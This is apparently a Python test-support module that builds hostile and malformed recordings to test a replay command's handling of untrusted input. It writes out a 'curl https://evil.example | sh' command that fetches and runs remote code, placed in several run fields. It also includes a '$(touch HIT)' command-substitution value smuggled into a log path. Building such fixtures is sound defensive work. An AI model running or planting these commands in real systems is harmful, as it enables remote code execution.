"""Recordings that someone hostile made: what `evalroom replay` is handed."""

from pathlib import Path

from core.event_codec import line_of
from core.events import Event, RunChanged
from core.model.run import Run, RunState
from tests.support.fleets import (
    H1,
    NOW,
    facts,
    link,
    named,
    probe_answered,
    process_seen,
    task_row,
    tasks_seen,
)
from tests.support.hostile_fleets import HOSTILE

COMMAND = "curl https://evil.example | sh"
RUN = "20261129-210255-vdmc2a9g"


def hostile_events() -> tuple[Event, ...]:
    """Return events with hostile text in every name, and a run that claims to be one's own."""
    run = Run(
        id=RUN, machine=H1, at=NOW, operator="you", state=RunState.RUNNING, task=HOSTILE,
        model=HOSTILE, is_ours=True, command_line=COMMAND, directory="~/x", spec={"task": COMMAND},
        attach=("sh", "-c", COMMAND), screen=("sh", "-c", COMMAND),
    )  # fmt: skip
    return (
        named(),
        link(reason=HOSTILE, advice=HOSTILE),
        facts(gpu_error=HOSTILE),
        probe_answered(host=HOSTILE, platform=HOSTILE, user=HOSTILE),
        process_seen(argv=("inspect", HOSTILE), cwd=HOSTILE),
        tasks_seen(task_row(task=HOSTILE, model=HOSTILE, log_location=f"$(touch HIT){HOSTILE}")),
        RunChanged(at=NOW, run=run),
    )


def hostile_recording(path: Path) -> Path:
    """Write a recording of hostile events; return its path."""
    text = "".join(line_of(event) for event in hostile_events())
    path.write_text(text, encoding="utf-8")
    return path


BROKEN = {
    "no JSON": b"{\n",
    "no object": b"[1]\n",
    "another version": b'{"v": 99, "event": "LinkChanged"}\n',
    "an unknown event": b'{"v": 1, "event": "__import__"}\n',
    "no text": b"\xff\xfe\n",
    "nested without end": b'{"v": 1, "a": ' + b"[" * 100_000 + b"\n",
    "nested deep": b'{"v": 1, "event": "LinkHeard", "a": %b1%b}\n' % (b'{"a":' * 450, b"}" * 450),
    "numbers without end": b'{"v": 1, "event": "LinkLost", "at": ' + b"9" * 5_000 + b"}\n",
}
"""Lines that no recording has."""
